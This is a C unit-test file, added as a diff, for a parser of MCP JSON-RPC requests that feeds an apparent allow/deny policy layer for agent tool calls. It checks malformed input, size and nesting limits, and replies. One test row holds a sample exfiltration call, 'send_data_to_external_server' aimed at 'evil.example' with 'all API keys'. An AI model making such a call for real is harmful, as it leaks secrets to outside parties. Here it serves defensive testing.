@@ -1,0 +1,440 @@
+/* Tests of mcp: what each line becomes, and the limits. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+
+#include <cmocka.h>
+
+#include "mcp.h"
+
+#define REQ(method, params)                                                    \
+	"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"" method                   \
+	"\",\"params\":" params "}"
+#define CALL(params) REQ("tools/call", params)
+/* The same, cut off inside of the params. */
+#define OPEN(params)                                                           \
+	"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\","             \
+	"\"params\":" params
+#define INIT REQ("initialize", "{\"protocolVersion\":\"2025-06-18\"}")
+
+struct row {
+	const char *line;
+	bool first; /* before initialize */
+	enum mcp_kind kind;
+	int code; /* of the error, 0 if none */
+};
+
+static const struct row rows[] = {
+	{ INIT, true, MCP_REPLY, 0 },
+	{ REQ("ping", "{}"), true, MCP_REPLY, 0 },
+	{ REQ("ping", "{}"), false, MCP_REPLY, 0 },
+	{ REQ("tools/list", "{}"), true, MCP_REPLY, MCP_ERR_REQUEST },
+	{ REQ("tools/list", "{}"), false, MCP_TOOLS, 0 },
+	{ "{\"jsonrpc\":\"2.0\",\"id\":\"a\",\"method\":\"tools/list\"}", false,
+	  MCP_TOOLS, 0 },
+	{ REQ("tools/list", "{\"cursor\":\"x\"}"), false, MCP_REPLY,
+	  MCP_ERR_PARAMS },
+	{ INIT, false, MCP_REPLY, MCP_ERR_REQUEST },
+	{ REQ("initialize", "{}"), true, MCP_REPLY, MCP_ERR_PARAMS },
+	{ REQ("resources/list", "{}"), false, MCP_REPLY, MCP_ERR_METHOD },
+	{ "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}",
+	  false, MCP_NOTHING, 0 },
+	{ "{\"jsonrpc\":\"2.0\",\"method\":\"tools/call\",\"params\":"
+	  "{\"name\":\"x\"}}",
+	  false, MCP_NOTHING, 0 },
+	/* malformed */
+	{ "", false, MCP_REPLY, MCP_ERR_PARSE },
+	{ "{", false, MCP_REPLY, MCP_ERR_PARSE },
+	{ "{} {}", false, MCP_REPLY, MCP_ERR_PARSE },
+	{ "{\"id\":1,\"id\":2}", false, MCP_REPLY, MCP_ERR_PARSE },
+	{ "\"\xff\"", false, MCP_REPLY, MCP_ERR_PARSE },
+	{ "{\"a\":\"\\u0000\"}", false, MCP_REPLY, MCP_ERR_PARSE },
+	{ "{}", false, MCP_REPLY, MCP_ERR_REQUEST },
+	{ "1", false, MCP_REPLY, MCP_ERR_PARSE },
+	{ "[" INIT "]", false, MCP_REPLY, MCP_ERR_REQUEST },
+	{ "{\"jsonrpc\":\"1.0\",\"id\":1,\"method\":\"ping\"}", false,
+	  MCP_REPLY, MCP_ERR_REQUEST },
+	{ "{\"jsonrpc\":\"2.0\",\"id\":null,\"method\":\"ping\"}", false,
+	  MCP_REPLY, MCP_ERR_REQUEST },
+	{ "{\"jsonrpc\":\"2.0\",\"id\":1.5,\"method\":\"ping\"}", false,
+	  MCP_REPLY, MCP_ERR_REQUEST },
+	{ "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\",\"x\":1}", false,
+	  MCP_REPLY, MCP_ERR_REQUEST },
+	{ REQ("ping", "[]"), false, MCP_REPLY, MCP_ERR_REQUEST },
+	{ "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}", false, MCP_REPLY,
+	  MCP_ERR_REQUEST },
+	/* calls */
+	{ CALL("{\"name\":\"email.send\"}"), true, MCP_REPLY, MCP_ERR_REQUEST },
+	{ CALL("{\"name\":\"email.send\"}"), false, MCP_CALL, 0 },
+	{ CALL("{\"name\":\"send_data_to_external_server\",\"arguments\":"
+	       "{\"target\":\"evil.example\",\"data\":\"all API keys\"}}"),
+	  false, MCP_CALL, 0 },
+	{ CALL("{\"name\":\"\xc3\xbc b\"}"), false, MCP_CALL, 0 },
+	{ CALL("{\"name\":\"\"}"), false, MCP_REPLY, MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"a\\nb\"}"), false, MCP_REPLY, MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"a\\u009bb\"}"), false, MCP_REPLY, MCP_ERR_PARAMS },
+	{ CALL("{\"name\":7}"), false, MCP_REPLY, MCP_ERR_PARAMS },
+	{ CALL("{\"arguments\":{}}"), false, MCP_REPLY, MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"x\",\"arguments\":[]}"), false, MCP_REPLY,
+	  MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"x\",\"more\":1}"), false, MCP_REPLY,
+	  MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":null}}"), false, MCP_REPLY,
+	  MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{}}}"), false, MCP_REPLY,
+	  MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":[1]}}"), false, MCP_REPLY,
+	  MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":[[]]}}"), false, MCP_REPLY,
+	  MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"x\",\"arguments\":{\"\":1}}"), false, MCP_REPLY,
+	  MCP_ERR_PARAMS },
+	/* our own tools */
+	{ CALL("{\"name\":\"task.get\"}"), false, MCP_TASK, 0 },
+	{ CALL("{\"name\":\"task.get\",\"arguments\":{\"a\":1}}"), false,
+	  MCP_REPLY, MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"task.answer\",\"arguments\":{\"text\":\"hi\"}}"),
+	  false, MCP_ANSWER, 0 },
+	{ CALL("{\"name\":\"task.answer\",\"arguments\":{\"text\":1}}"), false,
+	  MCP_REPLY, MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"task.answer\"}"), false, MCP_REPLY,
+	  MCP_ERR_PARAMS },
+	{ CALL("{\"name\":\"task.answer\",\"arguments\":{\"text\":\"\","
+	       "\"x\":1}}"),
+	  false, MCP_REPLY, MCP_ERR_PARAMS },
+};
+
+/* Reads one line; returns the kind, the error code and the error count. */
+static enum mcp_kind read_line(struct span line, bool initialized, int *code,
+			       uint32_t *errors)
+{
+	struct mcp m = { .initialized = initialized };
+	struct mcp_request r;
+	enum mcp_kind kind;
+	struct buf reply;
+	json_t *doc;
+
+	buf_init(&reply, MCP_REPLY_MAX);
+	mcp_read(&m, line, &r, &reply);
+	kind = r.kind;
+	*code = 0;
+	*errors = m.errors;
+	assert_int_equal(reply.n > 0, kind == MCP_REPLY);
+	if (reply.n) {
+		assert_int_equal(reply.p[reply.n - 1], '\n');
+		doc = json_loadb((const char *)reply.p, reply.n, 0, NULL);
+		assert_non_null(doc);
+		*code = (int)json_integer_value(
+			json_object_get(json_object_get(doc, "error"), "code"));
+		json_decref(doc);
+	}
+	mcp_request_done(&r);
+	buf_done(&reply);
+	return kind;
+}
+
+static void test_rows(void **state)
+{
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < ARRAY_SIZE(rows); i++) {
+		uint32_t errors;
+		int code;
+		enum mcp_kind kind = read_line(span_str(rows[i].line),
+					       !rows[i].first, &code, &errors);
+
+		if (kind != rows[i].kind || code != rows[i].code)
+			fail_msg("%s: got kind %d code %d, want %d %d",
+				 rows[i].line, (int)kind, code,
+				 (int)rows[i].kind, rows[i].code);
+		if (code && errors != 1)
+			fail_msg("%s: not counted", rows[i].line);
+	}
+}
+
+static void test_types(void **state)
+{
+	static const char line[] =
+		CALL("{\"name\":\"x\",\"arguments\":{\"s\":\"t\xc3\xbc\","
+		     "\"i\":-7,\"n\":1.5,\"b\":true,\"l\":[\"p\",\"q\"],"
+		     "\"e\":[]}}");
+	static const struct {
+		const char *name;
+		int json, shape;
+		const char *value;
+	} want[] = {
+		{ "s", ARG_STRING, ARG_SCALAR, "t\xc3\xbc" },
+		{ "i", ARG_INTEGER, ARG_SCALAR, "-7" },
+		{ "n", ARG_NUMBER, ARG_SCALAR, "1.5" },
+		{ "b", ARG_BOOL, ARG_SCALAR, "true" },
+		{ "l", ARG_STRING, ARG_ELEMENT, "p" },
+		{ "l", ARG_STRING, ARG_ELEMENT, "q" },
+		{ "e", ARG_STRING, ARG_EMPTY_LIST, "" },
+	};
+	struct mcp m = { .initialized = true };
+	struct mcp_request r;
+	struct buf reply;
+	size_t i;
+
+	(void)state;
+	buf_init(&reply, MCP_REPLY_MAX);
+	mcp_read(&m, span_str(line), &r, &reply);
+	assert_int_equal(r.kind, MCP_CALL);
+	assert_int_equal(r.call.n, ARRAY_SIZE(want));
+	for (i = 0; i < ARRAY_SIZE(want); i++) {
+		const struct m_arg *a = &r.call.args[i];
+
+		assert_true(span_is(a->name, want[i].name));
+		assert_int_equal(a->json, want[i].json);
+		assert_int_equal(a->shape, want[i].shape);
+		assert_true(span_is(a->value, want[i].value));
+	}
+	mcp_request_done(&r);
+	buf_done(&reply);
+}
+
+static void repeat(struct buf *b, const char *s, size_t n)
+{
+	while (n--)
+		buf_str(b, s);
+}
+
+/* A line of head, n times unit, tail. */
+static enum mcp_kind read_long(const char *head, const char *unit, size_t n,
+			       const char *tail)
+{
+	enum mcp_kind kind;
+	uint32_t errors;
+	struct buf b;
+	int code;
+
+	buf_init(&b, 1 << 20);
+	buf_str(&b, head);
+	repeat(&b, unit, n);
+	buf_str(&b, tail);
+	kind = read_line(buf_view(&b), true, &code, &errors);
+	buf_done(&b);
+	return kind;
+}
+
+static void test_limits(void **state)
+{
+	static const struct {
+		const char *what, *head, *unit, *tail;
+		size_t max;
+		enum mcp_kind ok;
+	} limits[] = {
+		{ "name", OPEN("{\"name\":\""), "n", "\"}}", LIMIT_NAME,
+		  MCP_CALL },
+		{ "argument name", OPEN("{\"name\":\"x\",\"arguments\":{\""),
+		  "n", "\":1}}}", LIMIT_NAME, MCP_CALL },
+		{ "list", OPEN("{\"name\":\"x\",\"arguments\":{\"l\":[\"\""),
+		  ",\"\"", "]}}}", LIMIT_ARGS - 1, MCP_CALL },
+		{ "value", OPEN("{\"name\":\"x\",\"arguments\":{\"v\":\""), "v",
+		  "\"}}}", LIMIT_ARG_BYTES, MCP_CALL },
+		{ "answer",
+		  OPEN("{\"name\":\"task.answer\",\"arguments\":{\"text\":\""),
+		  "v", "\"}}}", LIMIT_ANSWER, MCP_ANSWER },
+		{ "id",
+		  "{\"jsonrpc\":\"2.0\",\"method\":\"tools/list\",\"id\":\"",
+		  "i", "\"}", MCP_ID_MAX, MCP_TOOLS },
+	};
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < ARRAY_SIZE(limits); i++) {
+		char head[256];
+		size_t n = strlen(limits[i].head);
+		int d;
+
+		/* OPEN() closes what the row wants open. */
+		if (limits[i].head[n - 1] == '}')
+			n--;
+		(void)snprintf(head, sizeof(head), "%.*s", (int)n,
+			       limits[i].head);
+		for (d = -1; d <= 1; d++) {
+			enum mcp_kind kind =
+				read_long(limits[i].head, limits[i].unit,
+					  (size_t)((int)limits[i].max + d),
+					  limits[i].tail);
+
+			if (kind != (d > 0 ? MCP_REPLY : limits[i].ok))
+				fail_msg("%s %+d: got kind %d", limits[i].what,
+					 d, (int)kind);
+		}
+	}
+}
+
+/* Brackets: the parser never sees more than MCP_DEPTH_MAX of them. */
+static void test_depth(void **state)
+{
+	static const char head[] =
+		"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\","
+		"\"params\":{\"a\":";
+	char line[512];
+	int d;
+
+	(void)state;
+	for (d = -1; d <= 1; d++) {
+		int n = MCP_DEPTH_MAX - 2 + d;
+		uint32_t errors;
+		int code;
+
+		(void)snprintf(line, sizeof(line), "%s%.*s%.*s}}", head, n,
+			       "[[[[[[[[[[[[[[[[[[[[", n,
+			       "]]]]]]]]]]]]]]]]]]]]");
+		(void)read_line(span_str(line), true, &code, &errors);
+		assert_int_equal(code, d > 0 ? MCP_ERR_PARSE : 0);
+	}
+	(void)snprintf(line, sizeof(line), "%s\"[[[[[[[[[[[[[[[[[[\\\"[\"}}",
+		       head);
+	{
+		uint32_t errors;
+		int code;
+
+		(void)read_line(span_str(line), true, &code, &errors);
+		assert_int_equal(code, 0);
+	}
+}
+
+static void test_versions(void **state)
+{
+	static const struct {
+		const char *asked, *got;
+	} versions[] = { { "2025-06-18", "2025-06-18" },
+			 { "2025-03-26", "2025-03-26" },
+			 { "1999-01-01", "2025-06-18" } };
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < ARRAY_SIZE(versions); i++) {
+		struct mcp m = { 0 };
+		struct mcp_request r;
+		struct buf reply;
+		char line[256];
+
+		(void)snprintf(
+			line, sizeof(line),
+			REQ("initialize", "{\"protocolVersion\":\"%s\"}"),
+			versions[i].asked);
+		buf_init(&reply, 4096);
+		mcp_read(&m, span_str(line), &r, &reply);
+		assert_true(m.initialized);
+		(void)snprintf(line, sizeof(line), "\"protocolVersion\":\"%s\"",
+			       versions[i].got);
+		assert_non_null(strstr(buf_cstr(&reply), line));
+		mcp_request_done(&r);
+		buf_done(&reply);
+	}
+}
+
+/* A request to answer, and the parsed reply. */
+static json_t *parse_reply(struct buf *reply)
+{
+	json_t *doc = json_loadb((const char *)reply->p, reply->n, 0, NULL);
+
+	assert_non_null(doc);
+	assert_int_equal(json_integer_value(json_object_get(doc, "id")), 1);
+	return doc;
+}
+
+static void test_call_replies(void **state)
+{
+	const struct {
+		struct m_call_result result;
+		const char *verdict;
+		bool is_error;
+	} results[] = {
+		{ { .verdict = VERDICT_DENY,
+		    .clause = SPAN_LIT("p.yaml:1:1 deny"),
+		    .reason = SPAN_LIT("no \"such\" capability\n") },
+		  "deny",
+		  true },
+		{ { .verdict = VERDICT_ALLOW, .executed = 1 }, "allow", false },
+		{ { .verdict = VERDICT_ALLOW,
+		    .reason = SPAN_LIT("the outbox is full") },
+		  "allow",
+		  true },
+	};
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < ARRAY_SIZE(results); i++) {
+		struct mcp m = { .initialized = true };
+		struct mcp_request r;
+		json_t *doc, *result, *v;
+		struct buf reply;
+
+		buf_init(&reply, 4096);
+		mcp_read(&m, span_str(CALL("{\"name\":\"x\"}")), &r, &reply);
+		mcp_reply_call(&reply, &r, &results[i].result);
+		doc = parse_reply(&reply);
+		result = json_object_get(doc, "result");
+		v = json_object_get(result, "structuredContent");
+		assert_string_equal(
+			json_string_value(json_object_get(v, "verdict")),
+			results[i].verdict);
+		assert_int_equal(
+			json_is_true(json_object_get(result, "isError")),
+			results[i].is_error);
+		assert_int_equal(json_is_true(json_object_get(v, "executed")),
+				 results[i].result.executed);
+		assert_int_equal(json_object_get(v, "clause") != NULL,
+				 results[i].result.clause.n > 0);
+		json_decref(doc);
+		mcp_request_done(&r);
+		buf_done(&reply);
+	}
+}
+
+static void test_tools_reply(void **state)
+{
+	const struct m_tool tool = {
+		.name = SPAN_LIT("email.send"),
+		.description = SPAN_LIT("Sends."),
+		.schema = SPAN_LIT("{\"type\":\"object\"}"),
+	};
+	const struct m_tool bad = { .name = SPAN_LIT("x"),
+				    .schema = SPAN_LIT("[]") };
+	struct mcp m = { .initialized = true };
+	json_t *list = json_array();
+	struct mcp_request r;
+	struct buf reply;
+	json_t *doc, *tools;
+
+	(void)state;
+	assert_null(mcp_tool(&bad));
+	assert_int_equal(json_array_append_new(list, mcp_tool(&tool)), 0);
+	buf_init(&reply, 65536);
+	mcp_read(&m, span_str(REQ("tools/list", "{}")), &r, &reply);
+	mcp_reply_tools(&reply, &r, list);
+	doc = parse_reply(&reply);
+	tools = json_object_get(json_object_get(doc, "result"), "tools");
+	assert_int_equal(json_array_size(tools), 3);
+	assert_string_equal(json_string_value(json_object_get(
+				    json_array_get(tools, 2), "name")),
+			    "email.send");
+	assert_true(json_is_object(
+		json_object_get(json_array_get(tools, 1), "inputSchema")));
+	json_decref(doc);
+	json_decref(list);
+	mcp_request_done(&r);
+	buf_done(&reply);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_rows),
+		cmocka_unit_test(test_types),
+		cmocka_unit_test(test_limits),
+		cmocka_unit_test(test_depth),
+		cmocka_unit_test(test_versions),
+		cmocka_unit_test(test_call_replies),
+		cmocka_unit_test(test_tools_reply),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
